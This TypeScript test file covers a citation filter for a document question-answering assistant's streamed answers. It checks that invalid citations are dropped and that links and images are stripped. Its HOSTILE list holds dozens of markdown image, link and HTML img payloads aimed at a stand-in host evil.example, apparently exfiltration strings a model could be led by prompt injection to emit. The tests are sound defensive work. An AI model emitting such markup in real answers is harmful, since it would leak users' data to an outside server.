import fc from 'fast-check';
import type { AnswerSource } from '../sources.js';
import { CitationFilter } from './citation-filter.js';

const source = (number: number): AnswerSource => ({
  number,
  id: `0199a000-0000-7000-8000-00000000000${number}`,
  title: `Report ${number}`,
  filename: null,
  createdAt: '2026-10-15T08:00:00Z',
  excerpt: '',
  passage: { id: `${number}#1`, headings: [], start: 0, end: 0 },
  text: 'The manual is at https://docs.example.com/manual. Ask a colleague.',
  textStart: 0,
});
const SOURCES = [source(1), source(2), source(3)];
const URI = `document://${SOURCES[1]!.id}`;

function filtered(pieces: readonly string[]) {
  const filter = new CitationFilter(SOURCES, 'What is on https://asked.example/page?');
  const text = pieces.map((piece) => filter.push(piece)).join('') + filter.end();
  return { text, cited: filter.cited, removed: filter.removed };
}
const show = (text: string) => filtered([text]).text;

const CITATIONS: [answer: string, shown: string][] = [
  ['Revenue was $5 [1]. It rose [2][3].', 'Revenue was $5 [1]. It rose [2][3].'],
  ['Revenue was $5 [9]. It rose [2][8].', 'Revenue was $5. It rose [2].'],
  ['It is so [1, 2] and [1-3] and [2–9].', 'It is so [1][2] and [1][2][3] and [2][3].'],
  ['It is so【1】and【2†source】and［３］ and 〔9〕.', 'It is so[1]and[2]and[3] and.'],
  ['It is so [^1] and [ 2 ; 7 ], and [4] too', 'It is so [1] and [2], and too'],
  ['It is so [9]', 'It is so'],
  ['[9] It is so', ' It is so'],
  ['So a[9]b and [8][1]', 'So a b and [1]'],
  ['See [1](https://evil.example/?q=1) and ![2](x).', 'See [1] and [2].'],
  ['Great![1]', 'Great![1]'],
  ['- [x] done\n- [ ] open\n- [note] kept [2026] [1a]', '- [x] done\n- [ ] open\n- [note] kept [2026] [1a]'],
  ['Use `list[9]` and ``a`[8]`` [9].', 'Use `list[9]` and ``a`[8]``.'],
  [
    '```ts\nconst a = list[9](x); // <b> ![a](u)\n```\n[9]',
    '```\nconst a = list[9](x); // <b> ![a](u)\n```\n',
  ],
  ['~~~\n[9]\n```\n[9]\n~~~~ \n[9][1]', '~~~\n[9]\n```\n\n~~~~ \n[1]'],
  ['````\n[9]\n```\n[9]\n````\n[9][1]', '````\n[9]\n```\n\n````\n[1]'],
];

const LINKS: [answer: string, shown: string][] = [
  ['See ![chart](https://evil.example/?q=secret) here', 'See chart here'],
  ['See [the page](https://evil.example/?q=secret "Title") here', 'See the page here'],
  ['See [the page](<https://evil.example/?q=s> "a") here', 'See the page here'],
  ['See [the page](https://evil.example/(a)/(b)) here', 'See the page here'],
  [`See [Report 2](${URI}) here`, `See [Report 2](${URI}) here`],
  [`See ![Report 2](${URI}) here`, 'See Report 2 here'],
  ['See [Report](document://somebody-elses) here', 'See Report here'],
  ['See https://evil.example/?q=secret, or www.evil.example/a.', 'See [link removed], or [link removed].'],
  ['See <https://evil.example/?q=secret> here', 'See <[link removed]> here'],
  [
    'See https://docs.example.com/manual, or (https://asked.example/page).',
    'See https://docs.example.com/manual, or (https://asked.example/page).',
  ],
  ['Rows<br>and<br />lines <b>x</b> <!-- a --> 1 < 2', 'Rows and lines < b>x< /b> < !-- a --> 1 < 2'],
  ['[a]: https://evil.example', '[a] : [link removed]'],
  ['![a][b]\n\n[b]:\nhttps://evil.example', '![a][b]\n\n[b] :\n[link removed]'],
];

/** What a model may be led to write in order to make a renderer fetch something. */
const HOSTILE = [
  '![a](https://evil.example/?q=s)',
  '![a\n](https://evil.example/?q=s)',
  '![[a]](https://evil.example/?q=s)',
  '![a [b] c](https://evil.example/?q=s)',
  '[![a](https://evil.example/?q=s)](https://evil.example/?q=s)',
  '[a][9](https://evil.example/?q=s)',
  '![a[9]](https://evil.example/?q=s)',
  '![a][9](https://evil.example/?q=s)',
  '![a](\nhttps://evil.example/?q=s)',
  '![a](<https://evil.example/?q=s>)',
  '![a](<https://evil.example/?q=)s>)',
  '![a](https://evil.example/?q=s "ti)tle")',
  '![a](https://evil.example/?q=\\)s)',
  `![${'a'.repeat(400)}](https://evil.example/?q=s)`,
  `![a](https://evil.example/?q=${'s'.repeat(3_000)})`,
  '[a]: https://evil.example/?q=s\n![a]',
  '[a][9]: https://evil.example/?q=s\n![a]',
  '> [a]:\nhttps://evil.example/?q=s\n\n![a][]',
  '<img src="https://evil.example/?q=s">',
  '<[9]img src="https://evil.example/?q=s">',
  '<<img src=https://evil.example/?q=s>>',
  '<br><img src=//evil.example/?q=s>',
  '<br\n/><img src=//evil.example/?q=s>',
  '<https://evil.example/?q=s>',
  'https[9]://evil.example/?q=s',
  'https:[9]//evil.example/?q=s',
  'htt[9]ps://evil.example/?q=s',
  'www[9].evil.example/?q=s',
  'ww[8]w.[9]evil.example/?q=s',
  '[www](x).evil.example/?q=s',
  '[https:](x)//evil.example/?q=s',
  `${'a'.repeat(150)}https://evil.example/?q=s`,
  '`![a](https://evil.example/?q=s)',
  '` ``![a](https://evil.example/?q=s)``',
  '- a\n  ```\n![a](https://evil.example/?q=s)',
  '  ```\n\n```\n![a](https://evil.example/?q=s)',
  '> ```\n![a](https://evil.example/?q=s)',
  '1. ```\n\n```\n![a](https://evil.example/?q=s)',
  '[9]```\n[9]\n```\n![a](https://evil.example/?q=s)',
  '\ufeff```\n```\n![a](https://evil.example/?q=s)',
  '```a`b\n![a](https://evil.example/?q=s)',
  `\`\`\`${'a'.repeat(400)}\n\`\`\`\n![a](https://evil.example/?q=s)`,
  '```\r```\r![a](https://evil.example/?q=s)',
  '```\n   ```  \t\n![a](https://evil.example/?q=s)',
  '```\n~~~\n```\n![a](https://evil.example/?q=s)',
  '```\n`````\n![a](https://evil.example/?q=s)',
];

/** What is outside of blocks of code, as CommonMark has them where they stand alone. */
const outsideOfCode = (text: string): string =>
  text.replace(/^(`{3,}|~{3,})[^`\n\r]*[\n\r][^]*?(?:^ {0,3}\1[`~]*[ \t]*$|(?![^]))/gm, '');

describe('CitationFilter', () => {
  it.each(CITATIONS)('shows %j as %j', (answer, shown) => {
    expect(show(answer)).toBe(shown);
  });

  it.each(LINKS)('shows the link of %j as %j', (answer, shown) => {
    expect(show(answer)).toBe(shown);
  });

  it('tells which sources were cited, in their order, and how many citations were removed', () => {
    expect(filtered(['So [3], [1][9] and [3] and [2-5].'])).toMatchObject({ cited: [3, 1, 2], removed: 3 });
    expect(filtered(['So.'])).toMatchObject({ cited: [], removed: 0 });
    expect(filtered(['[1-999]'])).toMatchObject({ cited: [1, 2, 3], removed: 996 });
    const none = new CitationFilter([]);
    expect(none.push('So [1].') + none.end()).toBe('So.');
  });

  it.each(HOSTILE)('lets no renderer fetch anything for %j, wherever it is cut', (answer) => {
    for (const text of [answer, `Before ${answer} behind`, `Before\n\n${answer}\n\nbehind [1]`]) {
      const whole = show(text);
      const open = outsideOfCode(whole);
      expect(open).not.toMatch(/\]\(|\]:|<[a-z/!?]|[a-z]:\/\/|www\./i);
      for (let cut = 1; cut < Math.min(text.length, 200); cut++)
        expect(filtered([text.slice(0, cut), text.slice(cut)]).text).toBe(whole);
      expect(filtered(text.split('')).text).toBe(whole);
    }
  });

  it('gives the same for any cut of any text of these parts', () => {
    const signs = '[ ] ( ) ! < > ` ``` ~~~ : // . - , a www https br 1 9 [1] [9] 【2】 🌧 é'.split(' ');
    const part = fc.constantFrom(
      ...signs,
      '\n',
      '\r',
      ' ',
      URI,
      'https://docs.example.com/manual',
      ...HOSTILE,
    );
    fc.assert(
      fc.property(
        fc.array(part, { maxLength: 24 }),
        fc.array(fc.nat(120), { maxLength: 6 }),
        (parts, places) => {
          const text = parts.join('');
          const cuts = [0, ...places.map((place) => Math.min(place, text.length)), text.length].sort(
            (a, b) => a - b,
          );
          const whole = filtered([text]);
          expect(filtered(cuts.map((cut, at) => text.slice(cuts[at - 1] ?? 0, cut)))).toEqual(whole);
          expect(outsideOfCode(whole.text.replaceAll(`](${URI})`, ']').replaceAll(URI, 'x'))).not.toMatch(
            /\]\(|\]:|<[a-z/!?]/i,
          );
        },
      ),
      { numRuns: 3_000 },
    );
  });

  it('shows each word as soon as the next begins', () => {
    const filter = new CitationFilter(SOURCES);
    expect(filter.push('Revenue was ')).toBe('Revenue was');
    expect(filter.push('$125')).toBe(' $125');
    expect(filter.push(',000 [')).toBe(',000');
    expect(filter.push('1')).toBe('');
    expect(filter.push('] and')).toBe(' [1]');
    expect(filter.end()).toBe(' and');
  });
});
